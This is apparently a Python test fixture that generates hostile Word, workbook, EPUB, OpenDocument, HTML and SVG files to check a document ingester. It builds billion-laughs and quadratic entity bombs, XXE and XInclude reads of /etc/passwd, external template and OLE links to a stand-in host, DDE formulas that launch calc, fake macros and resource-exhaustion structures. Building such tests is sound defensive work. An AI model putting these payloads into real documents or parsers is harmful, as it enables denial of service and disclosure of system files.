"""Office files, books and pages whose XML grows without end, nests without end or points outside."""

import base64
from collections.abc import Callable

from tests.ingest.building import SAMPLE, opendocument, slides, word
from tests.ingest.hostile.files import SENTENCE, Hostile, archive, picture, replaced

# Where entities would be read from, and pictures, styles and relationships asked for.
OUTSIDE = "http://127.0.0.1:9/evil"
FILE = "file:///etc/passwd"

LAUGHS = (
    '<!DOCTYPE a [<!ENTITY l0 "lol">'
    + "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 12))
    + "]>"
)
WORDS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def quadratic(size: int) -> str:
    """Return a document type whose one entity is long, to be named as often."""
    return f'<!DOCTYPE a [<!ENTITY l11 "{"x" * size}">]>'


def external(_: int = 0) -> str:
    """Return a document type whose entity is a file of the system."""
    return f'<!DOCTYPE a SYSTEM "{OUTSIDE}.dtd" [<!ENTITY l11 SYSTEM "{FILE}"><!ENTITY % p SYSTEM "{OUTSIDE}"> %p;]>'


def workbook(sheet: str, *, strings: str = "") -> bytes:
    """Return a workbook of one sheet."""
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
    return archive(
        ("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
        (
            "_rels/.rels",
            f'<Relationships {package}><Relationship Id="r1" Type="{relation}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
        ),
        (
            "xl/_rels/workbook.xml.rels",
            f'<Relationships {package}><Relationship Id="r1" Type="{relation}/worksheet" Target="sheet1.xml"/>'
            f'<Relationship Id="r2" Type="{relation}/sharedStrings" Target="strings.xml"/></Relationships>',
        ),
        (
            "xl/workbook.xml",
            f'<workbook {SHEET} xmlns:r="{relation}"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
        ),
        ("xl/sheet1.xml", sheet),
        ("xl/strings.xml", strings),
        packed=False,
    )


def cells(inside: str, before: str = "") -> bytes:
    """Return a workbook with these rows."""
    return workbook(f'<?xml version="1.0"?>{before}<worksheet {SHEET}><sheetData>{inside}</sheetData></worksheet>')


def word_file(inside: str, before: str = "") -> bytes:
    """Return a Word file with this body."""
    body = f'<?xml version="1.0"?>{before}<w:document {WORDS}><w:body>{inside}</w:body></w:document>'
    return replaced(word.word(SAMPLE), "word/document.xml", body)


def book(inside: str, before: str = "") -> bytes:
    """Return a book of one chapter."""
    chapter = f'<?xml version="1.0"?>{before}<html xmlns="http://www.w3.org/1999/xhtml"><body>{inside}</body></html>'
    package = (
        '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="c" href="c.xhtml" '
        'media-type="application/xhtml+xml"/></manifest><spine><itemref idref="c"/></spine></package>'
    )
    return archive(
        ("mimetype", "application/epub+zip"),
        ("META-INF/container.xml", '<container><rootfiles><rootfile full-path="b.opf"/></rootfiles></container>'),
        ("b.opf", f"{before}{package}"),
        ("c.xhtml", chapter),
        packed=False,
    )


def open_document(inside: str, before: str = "") -> bytes:
    """Return an OpenDocument text with this body."""
    data = opendocument.packed(inside)
    with_type = f"{before}<office:document-content{opendocument.NAMES}><office:body><office:text>{inside}"
    return replaced(data, "content.xml", f"{with_type}</office:text></office:body></office:document-content>")


def page(inside: str, before: str = "") -> bytes:
    """Return a web page."""
    return f"{before}<html><head><title>Light</title></head><body><p>{SENTENCE}</p>{inside}</body></html>".encode()


def drawing(inside: str, before: str = "") -> bytes:
    """Return a drawing that is named as a web page."""
    return f'{before}<svg xmlns="http://www.w3.org/2000/svg"><text>{inside}</text></svg>'.encode()


KINDS: dict[str, tuple[str, Callable[[str, str], bytes], str]] = {
    "Word file": ("a.docx", word_file, "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"),
    "workbook": ("a.xlsx", cells, '<row r="1"><c r="A1" t="inlineStr"><is><t>{}</t></is></c></row>'),
    "book": ("a.epub", book, "<p>{}</p>"),
    "OpenDocument text": ("a.odt", open_document, "<text:p>{}</text:p>"),
    "web page": ("a.html", page, "<p>{}</p>"),
    "drawing": ("a.html", drawing, "{}"),
}


def _entities(kind: str, declared: Callable[[int], str], named: Callable[[int], int]) -> Callable[[int], bytes]:
    _, builder, paragraph = KINDS[kind]
    return lambda size: builder(paragraph.format("&l11;" * named(size)), declared(size))


def _nested(kind: str, opening: str, closing: str) -> Callable[[int], bytes]:
    _, builder, paragraph = KINDS[kind]
    return lambda depth: builder(opening * depth + paragraph.format(SENTENCE) + closing * depth, "")


def presentation_of_entities(_: int) -> bytes:
    """A billion laughs in a slide."""
    return replaced(slides.slides(SAMPLE), "ppt/slides/slide1.xml", f"{LAUGHS}<a>&l11;</a>")


def hidden_entities(_: int) -> bytes:
    """The same in an encoding that hides the words from a search."""
    body = f'<?xml version="1.0" encoding="UTF-16"?>{LAUGHS}<w:document {WORDS}><w:body>&l11;</w:body></w:document>'
    return replaced(word.word(SAMPLE), "word/document.xml", body.encode("utf-16"))


def included_file(_: int) -> bytes:
    """Asks for a file of the system by XInclude."""
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{FILE}" parse="text"/>'
    return word_file(f"<w:p><w:r><w:t>{SENTENCE}{include}</w:t></w:r></w:p>")


def template_from_outside(_: int) -> bytes:
    """Asks for its template, a picture and an embedded frame from elsewhere, as malicious documents do."""
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kinds = ("attachedTemplate", "image", "frame", "oleObject", "hyperlink", "styles", "numbering")
    links = "".join(
        f'<Relationship Id="x{at}" Type="{relation}/{kind}" Target="{OUTSIDE}" TargetMode="External"/>'
        for at, kind in enumerate(kinds)
    )
    package = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
    return replaced(
        word.word(SAMPLE), "word/_rels/document.xml.rels", f"<Relationships {package}>{links}</Relationships>"
    )


def page_from_outside(_: int) -> bytes:
    """Asks for everything from elsewhere."""
    return page(
        f'<base href="{OUTSIDE}"><link rel=stylesheet href="{OUTSIDE}"><script src="{OUTSIDE}"></script>'
        f'<img src="{OUTSIDE}" srcset="{OUTSIDE} 2x"><iframe src="{FILE}"></iframe><object data="{OUTSIDE}"></object>'
        f'<meta http-equiv=refresh content="0;url={OUTSIDE}"><p>{SENTENCE}</p><embed src="{FILE}">'
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{FILE}"/>',
        f'<!DOCTYPE html SYSTEM "{OUTSIDE}">',
    )


def huge_picture(kind: str) -> Callable[[int], bytes]:
    """Holds a picture of ten thousand million points."""
    where = {"Word file": "word/media/image1.png", "book": "cover.png"}[kind]
    builder, paragraph = KINDS[kind][1:]
    return lambda _: replaced(builder(paragraph.format(SENTENCE), ""), where, picture())


def embedded_pictures(count: int) -> bytes:
    """The same within a page, many times."""
    return page(f'<img src="data:image/png;base64,{base64.b64encode(picture()).decode()}">' * count)


def macros(_: int) -> bytes:
    """Holds macros."""
    return replaced(word.word(SAMPLE), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"Shell calc.exe" * 100)


def workbook_with_macros(_: int) -> bytes:
    """The same in a workbook, with formulas that ask for data from elsewhere."""
    formulas = (
        "WEBSERVICE(&quot;http://127.0.0.1:9/&quot;)",
        "cmd|'/c calc'!A1",
        "HYPERLINK(&quot;http://127.0.0.1:9&quot;)",
    )
    rows = "".join(f'<row><c t="str"><f>{one}</f><v>shown</v></c><c><v>1</v></c></row>' for one in formulas)
    return replaced(cells(rows), "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")


def cells_far_out(count: int) -> bytes:
    """Has cells in the last row and column that there are, and merges all between."""
    rows = "".join(f'<row r="{1_048_576 - at}"><c r="XFD{1_048_576 - at}"><v>1</v></c></row>' for at in range(count))
    sheet = f'<worksheet {SHEET}><cols><col min="1" max="999999999" hidden="1"/></cols><sheetData>{rows}</sheetData>'
    merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>' + '<mergeCell ref="A1:A1048576"/>' * count
    return workbook(f"{sheet}{merged}</worksheet>")


def columns_of_a_workbook(count: int) -> bytes:
    """Has a row of far more cells than there are columns."""
    return cells(f"<row>{'<c><v>1</v></c>' * count}</row>" * 2)


def strings_of_a_workbook(count: int) -> bytes:
    """Has one long string, shown by every cell."""
    strings = f"<sst {SHEET}><si><t>{SENTENCE * 300}</t></si></sst>"
    cell = '<c t="s"><v>0</v></c>'
    row = f"<row>{cell * 100}</row>"
    sheet = f"<worksheet {SHEET}><sheetData>{row * count}</sheetData></worksheet>"
    return workbook(sheet, strings=strings)


def runs_of_a_paragraph(count: int) -> bytes:
    """Has a paragraph whose every letter is a run of its own."""
    return word_file(f"<w:p>{'<w:r><w:rPr><w:b/></w:rPr><w:t>a</w:t></w:r><w:r><w:t> b</w:t></w:r>' * count}</w:p>")


def paragraphs(count: int) -> bytes:
    """Has nothing but empty paragraphs."""
    return word_file("<w:p/>" * count + f"<w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>")


def columns_of_a_word_file(count: int) -> bytes:
    """Has a table with a row of far more cells than a page has room for, merged in every way."""
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="999999999"/><w:vMerge/></w:tcPr><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc>'
    return word_file(f"<w:tbl>{f'<w:tr>{cell * count}</w:tr>' * 3}</w:tbl>")


def cells_repeated(count: int) -> bytes:
    """Says of a cell that it stands a thousand million times, and so does its row."""
    cell = f'<table:table-cell table:number-columns-repeated="{count}"><text:p>a</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="{count}">{cell}</table:table-row>'
    return open_document(f'<table:table>{row * 3}</table:table><text:p>a<text:s text:c="{count}"/>b</text:p>')


def styles_in_a_circle(_: int) -> bytes:
    """Has styles that are based on each other."""
    style = '<w:style w:type="paragraph" w:styleId="{}"><w:name w:val="{}"/><w:basedOn w:val="{}"/></w:style>'
    styles = f"<w:styles {WORDS}>{style.format('A', 'A', 'B')}{style.format('B', 'B', 'A')}</w:styles>"
    data = word_file(f'<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>')
    return replaced(data, "word/styles.xml", styles)


def numbers_without_sense(_: int) -> bytes:
    """Has levels and sizes that are no numbers, or far too large ones."""
    inside = "".join(
        f'<w:p><w:pPr><w:outlineLvl w:val="{one}"/><w:numPr><w:ilvl w:val="{one}"/><w:numId w:val="{one}"/></w:numPr>'
        f'</w:pPr><w:r><w:rPr><w:b w:val="{one}"/></w:rPr><w:t>{SENTENCE}</w:t></w:r></w:p>'
        for one in ("", "-1", "1e9", "99999999999999999999", "٣", "x", "²")
    )
    return word_file(inside)


def many_attributes(count: int) -> bytes:
    """Has an element of very many attributes."""
    given = " ".join(f'w:a{at}="1"' for at in range(count))
    return word_file(f"<w:p {given}><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>")


FILES = {
    **{
        f"billion laughs, {kind}": Hostile(KINDS[kind][0], _entities(kind, lambda _: LAUGHS, lambda _: 1), costly=True)
        for kind in KINDS
    },
    **{
        f"quadratic entity, {kind}": Hostile(
            KINDS[kind][0], _entities(kind, quadratic, lambda size: size), 10_000, costly=True
        )
        for kind in KINDS
    },
    **{f"external entity, {kind}": Hostile(KINDS[kind][0], _entities(kind, external, lambda _: 1)) for kind in KINDS},
    "billion laughs, presentation": Hostile("a.pptx", presentation_of_entities),
    "billion laughs in UTF-16": Hostile("a.docx", hidden_entities),
    "nested insertions, Word file": Hostile("a.docx", _nested("Word file", "<w:ins>", "</w:ins>"), 50_000),
    "nested tables, Word file": Hostile(
        "a.docx", _nested("Word file", "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"), 50
    ),
    "nested boxes, Word file": Hostile(
        "a.docx", _nested("Word file", "<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"), 120
    ),
    "nested sections, OpenDocument text": Hostile(
        "a.odt", _nested("OpenDocument text", "<text:section>", "</text:section>"), 50_000
    ),
    "nested lists, OpenDocument text": Hostile(
        "a.odt", _nested("OpenDocument text", "<text:list><text:list-item>", "</text:list-item></text:list>"), 100
    ),
    "nested tables, OpenDocument text": Hostile(
        "a.odt",
        _nested(
            "OpenDocument text",
            "<table:table><table:table-row><table:table-cell>",
            "</table:table-cell></table:table-row></table:table>",
        ),
        60,
        costly=True,
    ),
    "nested rows, workbook": Hostile("a.xlsx", _nested("workbook", "<row><c>", "</c></row>"), 25_000, costly=True),
    "nested lists, book": Hostile("a.epub", _nested("book", "<ul><li>", "</li></ul>"), 25_000, costly=True),
    "included file": Hostile("a.docx", included_file),
    "template from outside": Hostile("a.docx", template_from_outside),
    "page from outside": Hostile("a.html", page_from_outside),
    "huge picture, Word file": Hostile("a.docx", huge_picture("Word file")),
    "huge picture, book": Hostile("a.epub", huge_picture("book")),
    "embedded pictures": Hostile("a.html", embedded_pictures, 100),
    "macros": Hostile("a.docm", macros),
    "workbook with macros": Hostile("a.xlsm", workbook_with_macros),
    "cells far out": Hostile("a.xlsx", cells_far_out, 1_000, costly=True),
    "columns of a workbook": Hostile("a.xlsx", columns_of_a_workbook, 50_000, costly=True),
    "strings of a workbook": Hostile("a.xlsx", strings_of_a_workbook, 100, costly=True),
    "runs of a paragraph": Hostile("a.docx", runs_of_a_paragraph, 5_000, costly=True),
    "empty paragraphs": Hostile("a.docx", paragraphs, 25_000, costly=True),
    "columns of a Word file": Hostile("a.docx", columns_of_a_word_file, 1_000, costly=True),
    "cells repeated": Hostile("a.odt", cells_repeated, 999_999_999, costly=True),
    "styles in a circle": Hostile("a.docx", styles_in_a_circle),
    "numbers without sense": Hostile("a.docx", numbers_without_sense),
    "attributes of a Word file": Hostile("a.docx", many_attributes, 5_000, costly=True),
}
